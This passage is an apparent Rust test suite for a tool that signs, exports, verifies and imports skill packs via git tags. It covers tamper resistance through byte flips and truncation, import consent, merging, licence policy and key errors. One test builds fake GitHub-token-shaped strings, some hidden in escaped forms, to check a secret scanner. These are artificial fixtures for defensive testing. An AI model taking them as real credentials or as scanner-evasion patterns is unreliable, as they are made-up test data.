//! `export`, `verify`, `import`: what comes out is what git and other tools agree on, and what goes in is what was
//! signed, or nothing.

use std::collections::BTreeMap;
use std::fs;
use std::io::Write as _;
use std::path::PathBuf;
use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::env::{Depth, KEY, Mode, Ran, TestEnv, skill};

/// A user with the examples and a release of all of them.
fn released() -> (TestEnv, PathBuf) {
    let env = TestEnv::with_key();
    env.add_examples();
    let pack = export(&env, "kit", "1.0.0");
    (env, pack)
}

/// A user with one small skill and a release of it.
fn small() -> (TestEnv, PathBuf) {
    let env = TestEnv::with_key();
    env.add_skill("one", "text");
    let pack = export(&env, "kit", "1.0.0");
    (env, pack)
}

fn export(env: &TestEnv, name: &str, version: &str) -> PathBuf {
    let pack = env.root().join(format!("{name}-{version}.skillmeat-pack"));
    env.run(["export", name, "--version", version, "--all", "--output", pack.to_str().expect("UTF-8")]).ok();
    pack
}

/// A second user who trusts the first one's key.
fn reader() -> TestEnv {
    let env = TestEnv::with_collection();
    env.allow(&[("team@example.invalid", &KEY)]);
    env
}

fn text(path: &std::path::Path) -> &str {
    path.to_str().expect("UTF-8")
}

#[test]
fn a_release_is_a_signed_tag_that_git_verifies() {
    let (env, pack) = released();
    let ran = env.git(["verify-tag", "--format=%(tag)", "kit--v1.0.0"]);
    assert_eq!(ran, "kit--v1.0.0");
    env.git(["fsck", "--strict", "--no-dangling"]);
    assert_eq!(env.git(["status", "--porcelain"]), "");
    assert_eq!(env.git(["cat-file", "-t", "kit--v1.0.0"]), "tag");
    assert_eq!(env.git(["rev-list", "--count", "kit--v1.0.0"]), "1", "the commit has no parents");
    let message = env.git(["for-each-ref", "--format=%(contents:body)", "refs/tags/kit--v1.0.0"]);
    assert!(message.contains("skillmeat-tree: sha256:") && message.contains("skillmeat-repo: sha256:"), "{message}");
    assert!(pack.is_file());
}

/// Returns the names, modes and digests of a ZIP's entries, as Python reads them.
fn python_entries(env: &TestEnv, pack: &std::path::Path) -> BTreeMap<String, String> {
    let script = "import sys, zipfile, hashlib\nz = zipfile.ZipFile(sys.argv[1])\nassert z.testzip() is None\n\
        for i in z.infolist(): print(i.filename, oct(i.external_attr >> 16), hashlib.sha256(z.read(i)).hexdigest())";
    let mut command = env.command("python3");
    command.args(["-c", script]).arg(pack);
    let ran = Ran::of(command).ok();
    let line = |line: &str| line.split_once(' ').map(|(name, rest)| (name.to_owned(), rest.to_owned()));
    ran.stdout.lines().filter_map(line).collect()
}

#[test]
fn other_tools_read_the_pack_as_git_has_the_release() {
    let (env, pack) = released();
    let mut unzip = env.command("unzip");
    unzip.args(["-tqq"]).arg(&pack);
    assert_eq!(Ran::of(unzip).ok().stdout, "");
    let mut entries = python_entries(&env, &pack);
    let folder = env.root().join("unpacked");
    let mut unzip = env.command("unzip");
    unzip.arg("-qq").arg(&pack).arg("-d").arg(&folder);
    let _ = Ran::of(unzip).ok();
    for (entry, kind) in [(".skillmeat/tag", "tag"), (".skillmeat/commit", "commit")] {
        let mut command = env.command("git");
        command.args(["hash-object", "-t", kind]).arg(folder.join(entry));
        let id = Ran::of(command).ok();
        let name = if kind == "tag" { "kit--v1.0.0" } else { "kit--v1.0.0^{commit}" };
        assert_eq!(id.stdout.trim(), env.git(["rev-parse", name]));
        assert!(entries.remove(entry).is_some());
    }
    for line in env.git(["ls-tree", "-r", "kit--v1.0.0"]).lines() {
        let (head, path) = line.split_once('\t').expect("a line of ls-tree");
        let words: Vec<_> = head.split(' ').collect();
        let mut command = env.command("git");
        command.args(["hash-object", "--no-filters"]).arg(folder.join(path));
        assert_eq!(Ran::of(command).ok().stdout.trim(), words[2], "{path}");
        let found = entries.remove(path).unwrap_or_else(|| panic!("{path} is not in the pack"));
        assert!(found.starts_with(&format!("0o{} ", words[0])), "{path}: {found}");
    }
    assert_eq!(entries, BTreeMap::new(), "nothing else is in the pack");
}

#[test]
fn an_unpacked_bundle_is_a_plugin() {
    let (env, pack) = released();
    let folder = env.root().join("unpacked");
    let mut unzip = env.command("unzip");
    unzip.arg("-qq").arg(&pack).arg("-d").arg(&folder);
    let _ = Ran::of(unzip).ok();
    for file in ["plugin.json", ".claude-plugin/plugin.json", "mcp.json", ".mcp.json", "hooks/hooks.json"] {
        let bytes = fs::read(folder.join(file)).unwrap_or_else(|error| panic!("{file}: {error}"));
        let value: serde_json::Value = serde_json::from_slice(&bytes).unwrap_or_else(|error| panic!("{file}: {error}"));
        if file.ends_with("plugin.json") {
            assert_eq!((&value["name"], &value["version"]), (&"kit".into(), &"1.0.0".into()), "{file}");
        }
    }
    let manifest: toml::Table = fs::read_to_string(folder.join("bundle.toml")).expect("text").parse().expect("TOML");
    assert_eq!(manifest["artifacts"].as_array().map_or(0, Vec::len), 7, "{manifest}");
    assert!(folder.join("skills/commit-message/SKILL.md").is_file());
}

#[test]
fn the_same_release_gives_the_same_bytes_everywhere() {
    let (env, pack) = released();
    let first = fs::read(&pack).expect("a pack");
    let tag = env.git(["rev-parse", "kit--v1.0.0"]);
    let again = env.root().join("again.skillmeat-pack");
    let ran = env.json(&["export", "kit", "--version", "1.0.0", "--all", "--output", text(&again)]);
    assert_eq!((&ran["new_tag"], &ran["tag"]), (&false.into(), &tag.as_str().into()));
    assert_eq!(fs::read(&again).expect("a pack"), first, "exported again");
    let clone = env.root().join("clone");
    env.git(["clone", "--quiet", text(&env.folder()), text(&clone)]);
    for (index, (umask, zone, locale)) in
        [("077", "Pacific/Chatham", "C.UTF-8"), ("000", "America/St_Johns", "tr_TR.UTF-8")].iter().enumerate()
    {
        let to = env.root().join(format!("clone{index}.skillmeat-pack"));
        let mut command = env.command("sh");
        command.arg("-c").arg(format!("umask {umask}; exec \"$@\"")).arg("sh").arg(crate::env::program());
        command.args(["export", "kit", "--version", "1.0.0", "--all", "--output", text(&to)]).current_dir(&clone);
        command.env("TZ", zone).env("LANG", locale).env("LC_ALL", locale);
        let _ = Ran::of(command).ok();
        assert_eq!(fs::read(&to).expect("a pack"), first, "umask {umask}, {zone}, {locale}");
    }
}

#[test]
fn a_release_signed_again_from_the_same_commit_is_the_same() {
    let (env, pack) = small();
    let (tag, bytes) = (env.git(["rev-parse", "kit--v1.0.0"]), fs::read(&pack).expect("a pack"));
    env.git(["tag", "-d", "kit--v1.0.0"]);
    fs::remove_file(&pack).expect("a pack");
    let again = export(&env, "kit", "1.0.0");
    assert_eq!(env.git(["rev-parse", "kit--v1.0.0"]), tag, "Ed25519 signatures hold no chance");
    assert_eq!(fs::read(again).expect("a pack"), bytes);
}

#[test]
fn verify_says_the_same_of_the_pack_and_of_the_tag() {
    let (env, pack) = released();
    let mut of_pack = env.json(&["verify", text(&pack)]);
    let of_tag = env.json(&["verify", "kit--v1.0.0"]);
    let digest = of_pack.as_object_mut().expect("an object").remove("pack").expect("the digest of the pack");
    assert_eq!(of_pack, of_tag);
    let mut command = env.command("sha256sum");
    command.arg(&pack);
    let sum = Ran::of(command).ok();
    assert_eq!(digest, format!("sha256:{}", sum.stdout.split(' ').next().expect("a digest")));
    assert_eq!(of_tag["principal"], "tester@example.invalid");
    assert_eq!(of_tag["level"], 2);
    assert_eq!(of_tag["tag"], env.git(["rev-parse", "kit--v1.0.0"]));
    assert_eq!(of_tag["commit"], env.git(["rev-parse", "kit--v1.0.0^{commit}"]));
    for name in ["kit", "kit@1.0.0"] {
        assert_eq!(env.json(&["verify", name]), of_tag, "{name}");
    }
    env.unchanged(&["verify", text(&pack)]);
    env.unchanged(&["verify", "kit"]);
}

#[test]
fn verify_needs_no_collection_for_a_pack() {
    let (env, pack) = small();
    let mut command = env.program(["verify", text(&pack)]);
    command.current_dir(env.root());
    let _ = Ran::of(command).ok();
    env.refused("name", &["verify", "../missing.skillmeat-pack"]);
    env.refused("name", &["verify", "nothing"]);
    env.refused("name", &["verify", "kit--v9.9.9"]);
    env.refused("name", &["import", "../missing.skillmeat-pack", "--yes"]);
    env.refused("name", &["import", "nothing"]);
}

/// Decides on the bytes of a pack as `verify` does, in this process. Returns what is verified, as one text.
pub fn verified(folder: &std::path::Path, bytes: &[u8], signers: &[u8]) -> Option<String> {
    use skillmeat::{pack, trust};
    let path = folder.join("flipped");
    fs::write(&path, bytes).expect("a file");
    let store = trust::TrustStore::parse(("signers", signers), None).expect("allowed signers");
    let file = fs::File::open(path).expect("a file");
    let pack = pack::Pack::open(file, &pack::Limits::default()).ok()?;
    trust::verify(&pack, None, &trust::Authority::of(&store, None)).ok().map(|verified| format!("{:?}", verified.get()))
}

/// Set to give every byte each of the 255 other values, and not one only: millions of packs, so with `--profile quick`.
const EVERY_VALUE: &str = "SKILLMEAT_TEST_EVERY_VALUE";

/// Cuts a pack at every length.
pub fn assert_no_cut_accepted(env: &TestEnv, pack: &std::path::Path) {
    let good = fs::read(pack).expect("a pack");
    let signers = fs::read(env.home().join("allowed_signers")).expect("a file");
    assert!(verified(env.root(), &good, &signers).is_some());
    for length in 0..good.len() {
        assert!(verified(env.root(), &good[..length], &signers).is_none(), "{length} bytes");
    }
}

/// Changes every byte, on all processors. Returns the places whose change was accepted.
pub fn accepted_flips(env: &TestEnv, pack: &std::path::Path) -> Vec<usize> {
    let good = fs::read(pack).expect("a pack");
    let signers = fs::read(env.home().join("allowed_signers")).expect("a file");
    let original = verified(env.root(), &good, &signers);
    assert!(original.is_some());
    let every_value = std::env::var_os(EVERY_VALUE).is_some();
    let changed = AtomicUsize::new(0);
    let accepted_of = &|first: usize, step: usize| {
        let folder = tempfile::tempdir().expect("a folder");
        let (mut accepted, mut bytes) = (Vec::new(), good.clone());
        for at in (first..good.len()).step_by(step) {
            let one_bit = 1 << (at % 8);
            for change in if every_value { 1..=255 } else { one_bit..=one_bit } {
                bytes[at] = good[at] ^ change;
                if let Some(found) = verified(folder.path(), &bytes, &signers) {
                    assert_eq!(Some(found), original, "byte {at} with {change}: other content was accepted");
                    accepted.push(at);
                }
                changed.fetch_add(1, Ordering::Relaxed);
            }
            bytes[at] = good[at];
        }
        accepted
    };
    let threads = std::thread::available_parallelism().map_or(1, usize::from);
    let accepted = std::thread::scope(|scope| {
        let running: Vec<_> = (0..threads).map(|first| scope.spawn(move || accepted_of(first, threads))).collect();
        running.into_iter().flat_map(|thread| thread.join().expect("no panic")).collect()
    });
    let (changed, ways) = (changed.into_inner(), if every_value { 255 } else { 1 });
    assert_eq!(changed, good.len() * ways);
    accepted
}

#[test]
fn a_pack_is_not_extended() {
    let (env, pack) = small();
    let good = fs::read(&pack).expect("a pack");
    let signers = fs::read(env.home().join("allowed_signers")).expect("a file");
    let refused = |bytes: &[u8]| assert!(verified(env.root(), bytes, &signers).is_none(), "{} bytes", bytes.len());
    for extra in [&b"\0"[..], b"PK\x05\x06", &good] {
        refused(&[&good, extra].concat());
        refused(&[extra, &good].concat());
    }
}

#[test]
fn changed_packs_are_refused_by_the_program_and_leave_nothing() {
    let (env, _) = small();
    let pack = env.root().join("stored.skillmeat-pack");
    env.run(["export", "kept", "--version", "1.0.0", "--all", "--compression", "store", "--output", text(&pack)]).ok();
    let good = fs::read(&pack).expect("a pack");
    let reader = reader();
    let target = reader.root().join("changed.skillmeat-pack");
    let before = reader.snapshot(Depth::Objects);
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    for round in 0..60 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let mut bytes = good.clone();
        let at = usize::try_from(seed % bytes.len() as u64).expect("an index");
        if round % 4 == 0 {
            bytes.truncate(at);
        } else {
            bytes[at] = bytes[at].wrapping_add(1 + u8::try_from(round).expect("small"));
        }
        fs::write(&target, &bytes).expect("a file");
        let args: &[&str] = if round % 2 == 0 { &["verify"] } else { &["import", "--yes"] };
        let ran = reader.run(args.iter().chain(&[text(&target)]));
        assert!(matches!(ran.code, Some(1 | 3)), "byte {at}: {ran:?}");
        assert_eq!(ran.stdout, "");
        ran.assert_message();
    }
    fs::remove_file(&target).expect("a file");
    before.assert_same(&reader.snapshot(Depth::Objects), "no changed pack leaves a trace");
}

#[test]
fn what_is_no_pack_is_refused() {
    let env = reader();
    for (index, bytes) in
        [&b""[..], b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", b"not a pack", &[0; 70_000]].iter().enumerate()
    {
        let path = env.root().join(format!("{index}.skillmeat-pack"));
        fs::write(&path, bytes).expect("a file");
        env.refused_leaving("pack", &["verify", text(&path)], Depth::Objects);
        env.refused_leaving("pack", &["import", text(&path), "--yes"], Depth::Objects);
    }
    let folder = env.root().join("folder.skillmeat-pack");
    fs::create_dir(&folder).expect("a folder");
    env.refused_leaving("io", &["verify", text(&folder)], Depth::Objects);
}

#[test]
fn import_brings_the_same_objects_in_one_commit() {
    let (env, pack) = released();
    let reader = reader();
    let before = reader.head();
    let done = reader.json(&["import", text(&pack), "--yes"]);
    assert_eq!(done["commit"], reader.head());
    assert_eq!(reader.git(["rev-parse", "HEAD~1"]), before);
    for name in ["kit--v1.0.0", "kit--v1.0.0^{commit}", "kit--v1.0.0^{tree}"] {
        assert_eq!(reader.git(["rev-parse", name]), env.git(["rev-parse", name]), "{name}");
    }
    reader.assert_sound();
    assert_eq!(reader.git(["verify-tag", "--format=%(tag)", "kit--v1.0.0"]), "kit--v1.0.0");
    assert_eq!(reader.json(&["list"])["artifacts"].as_array().expect("a list").len(), 7);
    for kind in ["skills", "agents", "commands", "mcp"] {
        let of = |env: &TestEnv| env.git(["rev-parse", &format!("HEAD:{kind}")]);
        assert_eq!(of(&reader), of(&env), "{kind}");
    }
    let shown = reader.json(&["show", "commit-message"]);
    assert_eq!(shown["release"], "kit--v1.0.0");
    reader.unchanged(&["import", text(&pack), "--yes"]);
    reader.unchanged(&["verify", "kit"]);
}

#[test]
fn a_dry_run_of_an_import_writes_nothing() {
    let (_env, pack) = released();
    let reader = reader();
    let ran = reader.unchanged(&["import", text(&pack), "--dry-run"]);
    assert!(ran.stdout.contains("Would add skill/commit-message") && ran.stdout.contains("can run"), "{ran:?}");
    assert!(ran.stdout.contains("team@example.invalid"), "{ran:?}");
}

#[test]
fn an_import_needs_consent_to_the_digest() {
    let (_env, pack) = small();
    let reader = reader();
    let ran = reader.refused("consent", &["import", text(&pack)]);
    let digest = reader.json(&["verify", text(&pack)])["digest"].as_str().expect("text").to_owned();
    assert!(ran.stderr.contains(&format!("--accept {digest}")), "{ran:?}");
    let other = format!("sha256:{}", "0".repeat(64));
    reader.refused("hash", &["import", text(&pack), "--accept", &other]);
    reader.refused("hash", &["import", text(&pack), "--accept", &other, "--yes"]);
    for wrong in ["sha256:0", "0", "md5:0", &digest.to_uppercase()] {
        let ran = reader.run(["import", text(&pack), "--accept", wrong]);
        assert_eq!(ran.code, Some(2), "{ran:?}");
    }
    reader.run(["import", text(&pack), "--accept", &digest]).ok();
    reader.assert_sound();
}

#[test]
fn artifacts_of_other_content_are_refused_kept_or_replaced() {
    let (_env, pack) = small();
    let make = || {
        let reader = reader();
        reader.add_skill("one", "mine");
        reader
    };
    let reader = make();
    let ran = reader.refused("conflict", &["import", text(&pack), "--yes"]);
    assert!(ran.stderr.contains("--existing skip"), "{ran:?}");
    reader.unchanged(&["import", text(&pack), "--dry-run"]);
    reader.run(["import", text(&pack), "--yes", "--existing", "skip"]).ok();
    assert!(reader.read("skills/one/SKILL.md").contains("mine"));
    reader.assert_sound();
    let reader = make();
    let old = reader.head();
    reader.run(["import", text(&pack), "--yes", "--existing", "replace"]).ok();
    assert_eq!(reader.read("skills/one/SKILL.md"), skill("one", "text"));
    reader.assert_sound();
    reader.run(["rollback", &old]).ok();
    assert!(reader.read("skills/one/SKILL.md").contains("mine"), "history keeps what was replaced");
    let reader = make();
    reader.write("skills/one/SKILL.md", "edited\n");
    reader.refused("conflict", &["import", text(&pack), "--yes", "--existing", "replace"]);
}

/// Lines of which each side may change its own.
fn lines(changed: &[(&str, &str)]) -> String {
    let text = skill("one", "first\n\na\n\nb\n\nc\n\nd\n\nlast\n");
    changed.iter().fold(text, |text, (old, new)| text.replace(old, new))
}

#[test]
fn a_newer_release_is_merged_with_what_was_edited() {
    let author = TestEnv::with_key();
    author.add_skill("one", "x");
    author.add_skill("own", "x");
    let release = |version: &str, content: &str| {
        author.write("skills/one/SKILL.md", content);
        author.git(["commit", "--quiet", "--allow-empty", "-am", "Edited"]);
        let pack = author.root().join(format!("{version}.skillmeat-pack"));
        author.run(["export", "kit", "--version", version, "--all", "--output", text(&pack)]).ok();
        pack
    };
    let reader_here = reader;
    let reader = reader_here();
    reader.run(["import", text(&release("1.0.0", &lines(&[]))), "--yes"]).ok();
    let edit = |content: &str| {
        reader.write("skills/one/SKILL.md", content);
        reader.git(["commit", "--quiet", "-am", "Mine"]);
    };
    edit(&lines(&[("last", "mine")]));
    // Each side has changed its own lines.
    let second = release("1.1.0", &lines(&[("first", "theirs")]));
    let merge = |pack: &std::path::Path, more: &[&str]| {
        reader.run([&["import", text(pack), "--existing", "merge"][..], more].concat())
    };
    reader.unchanged(&["import", text(&second), "--existing", "merge", "--dry-run"]);
    assert!(merge(&second, &["--yes"]).ok().stdout.contains("Merged skill/one"));
    assert_eq!(reader.read("skills/one/SKILL.md"), lines(&[("first", "theirs"), ("last", "mine")]));
    assert!(reader.read("collection.lock").contains("kit--v1.1.0"));
    assert_eq!(
        reader.json(&["import", text(&second), "--existing", "merge", "--yes"])["commit"].as_str(),
        None,
        "twice is once"
    );
    // Both have changed the same: it waits, and what is decided is of the new release.
    let third = release("1.2.0", &lines(&[("first", "theirs"), ("last", "yours")]));
    let head = reader.read("skills/one/SKILL.md");
    let ran = merge(&third, &["--yes"]);
    assert_eq!(ran.code, Some(1), "{ran:?}");
    assert!(ran.stdout.contains("git skillmeat resolve skill/one"), "{}", ran.stdout);
    assert_eq!(reader.read("skills/one/SKILL.md"), head);
    assert_eq!(reader.json(&["status"])["artifacts"][0]["waits"], true);
    reader.run(["resolve", "one", "--theirs"]).ok();
    assert_eq!(reader.read("skills/one/SKILL.md"), lines(&[("first", "theirs"), ("last", "yours")]));
    let shown = reader.json(&["show", "one"]);
    assert_eq!((&shown["release"], &shown["bundle"]), (&"kit--v1.2.0".into(), &"kit".into()), "{shown}");
    reader.assert_sound();
    // The same again has nothing new, whatever was decided or edited since.
    edit(&lines(&[("first", "theirs"), ("last", "yours and mine")]));
    let again = merge(&third, &["--yes"]).ok();
    assert!(again.stdout.contains("Kept yours: skill/one"), "{}", again.stdout);
    // An older one may hide what a newer one mended.
    let refused = reader.refused("rollback", &["import", text(&second), "--existing", "merge", "--yes"]);
    assert!(refused.stderr.contains("kit--v1.2.0") && refused.stderr.contains("--allow-older"), "{refused:?}");
    let shown = merge(&second, &["--dry-run"]);
    assert!(shown.stdout.contains("older than 'kit--v1.2.0'"), "{}", shown.stdout);
    reader.run(["import", text(&second), "--existing", "replace", "--yes", "--allow-older"]).ok();
    assert_eq!(reader.json(&["show", "one"])["release"], "kit--v1.1.0");
    reader.run(["undo"]).ok();
    // What a release has no more stays, and is told.
    author.run(["remove", "own"]).ok();
    let fourth = release("1.3.0", &lines(&[("first", "last")]));
    let told = merge(&fourth, &["--dry-run"]);
    assert!(told.stdout.contains("git skillmeat remove skill/own"), "{}", told.stdout);
    // One of the collection's own has nothing to merge from.
    let other = reader_here();
    other.add_skill("one", "of my own");
    other.refused("conflict", &["import", text(&third), "--yes", "--existing", "merge"]);
}

#[test]
fn a_newer_release_updates_what_was_not_edited() {
    let (env, first) = small();
    env.write("skills/one/SKILL.md", skill("one", "newer"));
    env.git(["commit", "--quiet", "-am", "Newer"]);
    let second = export(&env, "kit", "1.1.0");
    let reader = reader();
    reader.run(["import", text(&first), "--yes"]).ok();
    let done = reader.json(&["import", text(&second), "--yes"]);
    assert_eq!(done["plan"]["artifacts"][0]["step"], "update");
    assert_eq!(reader.read("skills/one/SKILL.md"), skill("one", "newer"));
    reader.assert_sound();
    assert_eq!(reader.json(&["verify", "kit"])["release"], "kit--v1.1.0");
    reader.write("skills/one/SKILL.md", skill("one", "edited"));
    reader.git(["commit", "--quiet", "-am", "Mine"]);
    reader.refused("conflict", &["import", text(&first), "--yes"]);
}

#[test]
fn a_version_never_gets_other_content() {
    let (env, pack) = small();
    let bytes = fs::read(&pack).expect("a pack");
    env.add_skill("two", "text");
    let args = ["export", "kit", "--version", "1.0.0", "--all", "--output", text(&pack)];
    let ran = env.refused("policy", &args);
    assert!(ran.stderr.contains("choose a higher version"), "{ran:?}");
    assert_eq!(fs::read(&pack).expect("a pack"), bytes);
}

#[test]
fn a_moved_tag_is_noticed() {
    let (env, first) = small();
    env.add_skill("two", "text");
    export(&env, "kit", "1.1.0");
    // The newer release's tag object under the older name, and the other way round.
    env.git(["update-ref", "refs/tags/kit--v1.0.0", "refs/tags/kit--v1.1.0"]);
    env.refused("signature", &["verify", "kit--v1.0.0"]);
    let out = env.root().join("out.skillmeat-pack");
    env.refused("signature", &["export", "kit", "--version", "1.0.0", "--all", "--output", text(&out)]);
    assert!(!out.exists());
    // A tag of the same name here that is not the one in the pack.
    let reader = reader();
    reader.run(["import", text(&first), "--yes"]).ok();
    reader.git(["tag", "-f", "-m", "Other", "kit--v1.0.0", "HEAD"]);
    reader.refused("policy", &["import", text(&first), "--yes"]);
}

#[test]
fn export_without_a_usable_key_leaves_no_tag_and_no_pack() {
    let env = TestEnv::with_collection();
    env.add_skill("one", "text");
    let out = env.root().join("out.skillmeat-pack");
    let args = ["export", "kit", "--version", "1.0.0", "--all", "--output", text(&out)];
    let ran = env.refused("usage", &args);
    assert!(ran.stderr.contains("git skillmeat key generate"), "{ran:?}");
    env.config("user.signingKey", "/nothing/here");
    env.refused("usage", &args);
    env.config("gpg.format", "ssh");
    env.refused("io", &args);
    env.config("user.signingKey", &format!("key::{}", KEY.public));
    env.refused("io", &args);
    let locked = crate::env::Key::generate("a passphrase");
    env.use_key(&locked);
    env.refused("io", &args);
    env.config("user.signingKey", text(&env.home().join("gitconfig")));
    env.refused("io", &args);
    env.use_key(&KEY);
    env.config("gpg.ssh.program", "/bin/false");
    env.refused("io", &args);
    env.config("gpg.ssh.program", "/bin/true");
    env.refused("io", &args);
    assert!(!out.exists());
    assert_eq!(env.git(["tag"]), "");
}

#[test]
fn an_agent_without_the_key_is_an_io_error_and_one_with_it_signs() {
    let mut env = TestEnv::with_collection();
    env.add_skill("one", "text");
    let private = KEY.write(&env.root().join("in-agent"));
    env.config("gpg.format", "ssh");
    env.config("user.signingKey", &format!("key::{}", KEY.public));
    let socket = env.root().join("agent");
    let mut command = env.command("ssh-agent");
    let mut agent = command.args(["-D", "-a"]).arg(&socket).stdout(Stdio::null()).spawn().expect("ssh-agent starts");
    env.set("SSH_AUTH_SOCK", text(&socket));
    let listening = (0..200).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(20));
        socket.exists()
    });
    let out = env.root().join("out.skillmeat-pack");
    let args = ["export", "kit", "--version", "1.0.0", "--all", "--output", text(&out)];
    let without = env.run(args);
    let mut add = env.command("ssh-add");
    add.arg("-q").arg(&private);
    let added = Ran::of(add);
    fs::remove_file(&private).expect("a key");
    fs::remove_file(private.with_extension("pub")).expect("a key");
    let with = env.run(args);
    agent.kill().expect("the agent ends");
    agent.wait().expect("the agent ends");
    assert!(listening);
    without.refused("io");
    added.ok();
    with.ok();
    env.allow(&[("tester@example.invalid", &KEY)]);
    env.git(["verify-tag", "kit--v1.0.0"]);
}

#[test]
fn export_needs_artifacts_that_are_fit() {
    let env = TestEnv::with_key();
    let out = env.root().join("out.skillmeat-pack");
    let export = |args: &[&'static str]| [&["export", "kit"], args, &["--output", text(&out)]].concat();
    env.refused("usage", &export(&["--version", "1.0.0", "--all"]));
    env.add_skill("one", "text");
    env.refused("usage", &export(&["--version", "1.0.0"]));
    env.refused("name", &export(&["--version", "1.0.0", "--artifact", "two"]));
    env.refused("policy", &export(&["--version", "1.0.0", "--all", "--license", "Nonsense"]));
    let told = env.refused("policy", &export(&["--version", "1.0.0", "--all", "--license", "Apache-2.0"]));
    assert!(
        told.stderr.contains("'skill/one' is under MIT") && told.stderr.contains("bundle.license"),
        "{}",
        told.stderr
    );
    env.refused("name", &["export", "../x", "--version", "1.0.0", "--all"]);
    env.refused("name", &["export", "A", "--version", "1.0.0", "--all"]);
    env.refused("io", &["export", "kit", "--version", "1.0.0", "--all", "--output", "/nothing/here/x"]);
    let ran = env.run(export(&["--version", "1.0", "--all"]));
    assert_eq!(ran.code, Some(2), "{ran:?}");
    assert!(!out.exists());
    // Build metadata does not order versions, so two tags would be one version.
    env.refused("name", &export(&["--version", "1.0.0+build", "--all"]));
    assert!(!out.exists());
    env.run(export(&["--version", "1.0.0-rc.1", "--artifact", "one"])).ok();
    assert_eq!(env.run(["verify", "kit"]).code, Some(2), "a version before a release is taken only when named");
    env.run(["verify", "kit--v1.0.0-rc.1"]).ok();
}

#[test]
fn a_licence_covers_what_each_of_its_choices_covers() {
    let env = TestEnv::with_key();
    let out = env.root().join("out.skillmeat-pack");
    let export = |version: &'static str, args: &[&'static str]| {
        [&["export", "kit", "--all", "--version", version], args, &["--output", text(&out)]].concat()
    };
    let under = |license: &str| {
        let plain = skill("one", "text");
        assert!(plain.contains("license: MIT"));
        env.write("skills/one/SKILL.md", plain.replace("license: MIT", &format!("license: {license}")));
        env.git(["add", "."]);
        env.git(["commit", "--quiet", "-m", license]);
    };
    under("GPL-3.0-only");
    let told = env.refused("policy", &export("1.0.0", &["--license", "MIT OR GPL-3.0-only"]));
    assert!(told.stderr.contains("'skill/one' is under GPL-3.0-only, which"), "{}", told.stderr);
    under("MIT OR GPL-3.0-only");
    env.run(export("1.0.0", &["--license", "MIT"])).ok();
    for own in ["GPL-3.0", "Proprietary, all rights reserved"] {
        under(own);
        let told = env.refused("policy", &export("1.1.0", &["--license", "MIT"]));
        assert!(told.stderr.contains(&format!("'{own}', which is no SPDX expression")), "{}", told.stderr);
        env.refused("policy", &export("1.1.0", &["--license", "MIT", "--allow", "bundle.license:skills/two"]));
    }
    let place = "bundle.license:skills/one";
    env.run(export("1.1.0", &["--license", "MIT", "--allow", place])).ok();
    let message = env.git(["log", "-1", "--format=%B", "kit--v1.1.0"]);
    assert!(message.contains(&format!("Skillmeat-Allowed: {place}")), "{message}");
    // Without a word on the whole it asserts nothing, as ever.
    let made = env.run(export("1.2.0", &[])).ok();
    assert!(env.run(["inspect", "kit--v1.2.0"]).ok().stdout.contains("NOASSERTION"), "{made:?}");
}

fn token(number: u32) -> String {
    format!("gh{}{}", "p_", &format!("a{number}B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")[..36])
}

#[test]
fn credentials_in_words_and_made_files_are_refused_too() {
    let env = TestEnv::with_key();
    env.add_skill("one", "text");
    let (out, token) = (env.root().join("out.skillmeat-pack"), token(1));
    let base = ["export", "kit", "--all", "--version", "1.0.0", "--output", text(&out)];
    let with = |more: &[&str]| [&base[..], more].concat().iter().map(ToString::to_string).collect::<Vec<_>>();
    let refused = |more: &[&str], place: &str| {
        let args = with(more);
        let told = env.refused("secret", &args.iter().map(String::as_str).collect::<Vec<_>>());
        assert!(told.stderr.contains(place) && !told.stderr.contains(&token[..20]), "{}", told.stderr);
        assert!(!out.exists());
    };
    let words = format!("with {token} inside");
    refused(&["--description", &words], "the description in 'bundle.toml'");
    refused(&["--description", &words, "--allow", "secret.github-token:plugin.json"], "the description in");
    let manifest = env.read("collection.toml");
    env.write("collection.toml", format!("description = \"{words}\"\n{manifest}"));
    env.git(["commit", "--quiet", "-am", "words"]);
    refused(&[], "the description in 'bundle.toml'");
    env.write("collection.toml", manifest);
    env.write("LICENSE", &words);
    env.git(["add", "."]);
    env.git(["commit", "--quiet", "-m", "a licence"]);
    refused(&[], "'LICENSE': ");
    env.run(with(&["--allow", "secret.github-token:LICENSE"])).ok();
    let message = env.git(["log", "-1", "--format=%B", "kit--v1.0.0"]);
    assert!(message.contains("Skillmeat-Allowed: secret.github-token:LICENSE"), "{message}");
    let told = env.refused("secret", &["recommend", text(&out), "--note", &words]);
    assert!(told.stderr.contains("the note") && !told.stderr.contains(&token[..20]), "{}", told.stderr);
}

#[test]
fn a_finding_may_be_allowed_in_one_place() {
    let env = TestEnv::with_key();
    env.add_skill("one", "text");
    let out = env.root().join("out.skillmeat-pack");
    // Behind a word, an escape of an address, and an escape in a text of JSON.
    let behind = [format!("KEY_{}", token(1)), format!("key%3D{}", token(2)), format!(r#"{{"A":"1\n{}"}}"#, token(3))];
    for (name, secret) in ["x.json", "y.json", "z.json"].iter().zip(&behind) {
        env.write(&format!("skills/one/{name}"), secret);
    }
    env.git(["add", "."]);
    env.git(["commit", "--quiet", "-m", "secrets"]);
    let args = ["export", "kit", "--all", "--version", "1.0.0", "--output", text(&out)];
    let told = env.refused("secret", &args);
    for name in ["x.json", "y.json", "z.json"] {
        assert!(told.stderr.contains(&format!("'skills/one/{name}': ")), "{}", told.stderr);
    }
    let allow =
        ["--allow", "secret.github-token:skills/one/x.json", "--allow", "secret.github-token:skills/one/z.json"];
    let told = env.refused("secret", &[&args[..], &allow].concat());
    assert!(told.stderr.contains("y.json") && !told.stderr.contains("x.json"), "{}", told.stderr);
    env.run([&args[..], &allow, &["--allow", "secret.github-token:skills/one/y.json"]].concat()).ok();
    let message = env.git(["log", "-1", "--format=%B", "kit--v1.0.0"]);
    assert!(message.contains("Skillmeat-Allowed: secret.github-token:skills/one/y.json"), "{message}");
    env.run(["verify", text(&out)]).ok();
}

#[test]
fn export_takes_the_last_commit_and_not_the_worktree() {
    let env = TestEnv::with_key();
    env.add_skill("one", "text");
    env.write("skills/one/SKILL.md", skill("one", "edited"));
    env.write("skills/one/loose.txt", "loose\n");
    export(&env, "kit", "1.0.0");
